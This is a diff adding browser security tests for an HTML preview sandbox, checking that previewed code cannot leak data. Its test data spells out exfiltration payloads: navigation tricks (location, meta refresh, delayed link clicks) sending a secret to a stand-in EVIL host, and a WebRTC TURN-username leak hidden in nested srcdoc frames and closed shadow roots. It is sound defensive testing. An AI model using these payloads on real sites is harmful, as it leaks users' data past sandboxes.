@@ -12,6 +12,8 @@ import time
 
 import pytest
 
+from .conftest import open_page
+
 pytestmark = pytest.mark.browser
 
 SECRET = "sk-live-123"
@@ -127,3 +129,135 @@ def test_framing_page_cannot_take_over_the_runner(browser, evil, sandbox_server,
         assert slow["ok"] is False and "navigated" in slow["error"], slow
     finally:
         page.context.close()
+
+
+# ---- 2. an HTML preview reaches the network: navigation, meta refresh, WebRTC ------------------------------
+
+
+def preview_in_panel(page, html: str) -> None:
+    """Render ``html`` with the fixture page's HTML block (its Run button, its output panel)."""
+    page.evaluate(
+        """(html) => {
+            const block = document.querySelector('#html-hello');
+            block.querySelector('.highlight pre').textContent = html;
+            block.querySelector('.seedui-run').click();
+        }""",
+        html,
+    )
+
+
+def panel(page) -> dict:
+    return page.evaluate(
+        """() => {
+            const p = document.querySelector('#html-hello + .seedui-output');
+            return p && {
+                state: p.getAttribute('data-state'),
+                status: p.querySelector('.seedui-status').textContent,
+                error: p.querySelector('.seedui-error').hidden ? '' : p.querySelector('.seedui-error').textContent,
+                notices: Array.from(p.querySelectorAll('.seedui-notice'), (n) => n.textContent),
+                frames: p.querySelectorAll('iframe').length,
+            };
+        }"""
+    )
+
+
+NAVIGATIONS = {
+    "location": "<script>location = 'EVIL/location?d=typed-secret'</script>",
+    "meta-refresh": "<meta http-equiv='refresh' content='0;url=EVIL/refresh?d=typed-secret'><p>hello</p>",
+    "later-link-click": (
+        "<p>hello</p><a id='a' href='EVIL/link?d=typed-secret'>x</a>"
+        "<script>setTimeout(() => document.getElementById('a').click(), 300)</script>"
+    ),
+    "later-location-replace": "<script>setTimeout(() => location.replace('EVIL/replace?d=typed-secret'), 300)</script>",
+}
+
+
+def removed_or_reached(page, evil) -> bool:
+    state = panel(page)
+    return bool(evil.requests) or bool(state and state["state"] == "error")
+
+
+@pytest.mark.parametrize("attack", list(NAVIGATIONS))
+def test_preview_cannot_navigate_out(page, sandbox_server, evil, attack):
+    if not sandbox_server.fixture_page:
+        pytest.skip("needs the fixture page")
+    preview_in_panel(page, NAVIGATIONS[attack].replace("EVIL", evil.url))
+    assert wait_until(lambda: removed_or_reached(page, evil), 30), panel(page)
+    assert evil.requests == []  # the page's frame-src refused the navigation: nothing left the browser
+    state = panel(page)
+    assert state["state"] == "error" and state["status"] == "Preview removed", state
+    assert "tried to load another page" in state["error"] and state["frames"] == 0
+
+
+def test_without_the_frame_lock_a_navigating_preview_is_still_removed(browser, other_app, local_pyodide, evil):
+    # Without frame-src nothing stops the request (browsers have no navigate-to); the page only
+    # notices the frame's extra load and removes the preview.
+    url = other_app(pyodide_dir=local_pyodide, lock_frames=False)
+    page = open_page(browser, url, wait_for="#seedui-check-results")
+    try:
+        for attack in ("location", "meta-refresh"):
+            preview_in_panel(page, NAVIGATIONS[attack].replace("EVIL", evil.url))
+            assert wait_until(lambda: (panel(page) or {}).get("state") == "error", 30), panel(page)
+            state = panel(page)
+            assert state["status"] == "Preview removed" and state["frames"] == 0, state
+            assert "tried to load another page" in state["error"]
+    finally:
+        page.context.close()
+
+
+# WebRTC is not governed by CSP: a TURN server's username carries whatever the page wants out.
+RTC_LEAK = """function leak(RTC) {
+  const pc = new RTC({iceServers: [
+    {urls: 'turn:127.0.0.1:TCP?transport=tcp', username: 'typed-secret', credential: 'x'},
+    {urls: 'stun:127.0.0.1:UDP'}]});
+  pc.createDataChannel('x');
+  pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+}"""
+# A nested frame's document has fresh globals; these are the ways to make one that runs code.
+WEBRTC = {
+    "direct": """<body><script>LEAK
+        try { leak(window.RTCPeerConnection || window.webkitRTCPeerConnection); document.body.dataset.tried = 'ran'; }
+        catch (e) { document.body.dataset.tried = 'blocked'; }</script>""",
+    "srcdoc-frame": """<body><script>
+        const f = document.createElement('iframe'); f.srcdoc = NESTED; document.body.append(f);</script>""",
+    "srcdoc-in-closed-shadow-root": """<body><div id='host'></div><script>
+        const root = document.getElementById('host').attachShadow({mode: 'closed'});
+        const f = document.createElement('iframe'); f.srcdoc = NESTED; root.append(f);</script>""",
+    "srcdoc-in-markup": """<body><p>x</p><iframe srcdoc="NESTED_ATTRIBUTE"></iframe>""",
+    "declarative-shadow-root": """<body><div><template shadowrootmode="closed">
+        <iframe srcdoc="NESTED_ATTRIBUTE"></iframe></template></div>""",
+}
+
+
+def webrtc_attack(attack: str, evil) -> str:
+    leak = RTC_LEAK.replace("TCP", str(evil.tcp_port)).replace("UDP", str(evil.udp_port))
+    nested = f"<script>{leak} leak(RTCPeerConnection);</script>"
+    attribute = nested.replace("&", "&amp;").replace('"', "&quot;")
+    return (
+        WEBRTC[attack]
+        .replace("LEAK", leak)
+        .replace("NESTED_ATTRIBUTE", attribute)
+        .replace("NESTED", json.dumps(nested).replace("</", "<\\/"))
+    )
+
+
+@pytest.mark.parametrize("attack", list(WEBRTC))
+def test_preview_cannot_use_webrtc(page, sandbox_server, evil, attack):
+    if not sandbox_server.fixture_page:
+        pytest.skip("needs the fixture page")
+    preview_in_panel(page, webrtc_attack(attack, evil))
+    if attack == "direct":
+        frame = page.locator("#html-hello + .seedui-output iframe").element_handle().content_frame()
+        frame.wait_for_function("document.body && document.body.dataset.tried", timeout=30_000)
+        assert frame.evaluate("document.body.dataset.tried") == "blocked"
+        assert frame.evaluate("typeof RTCPeerConnection + typeof webkitRTCPeerConnection") == "undefinedundefined"
+    elif attack == "declarative-shadow-root":
+        # A closed shadow root made by the parser could hide a frame from every check: refused.
+        assert wait_until(lambda: (panel(page) or {}).get("state") == "error", 30), (panel(page), evil.packets)
+        assert "declarative shadow root" in panel(page)["error"]
+    else:
+        # The frame goes before its document exists, and the panel says so.
+        assert wait_until(lambda: bool((panel(page) or {}).get("notices")), 30), (panel(page), evil.packets)
+        assert "nested srcdoc frame was removed" in panel(page)["notices"][0]
+    # Nothing is in flight (no frame, no constructor); a short look for late packets all the same.
+    assert not wait_until(lambda: bool(evil.packets), 1.5), evil.packets
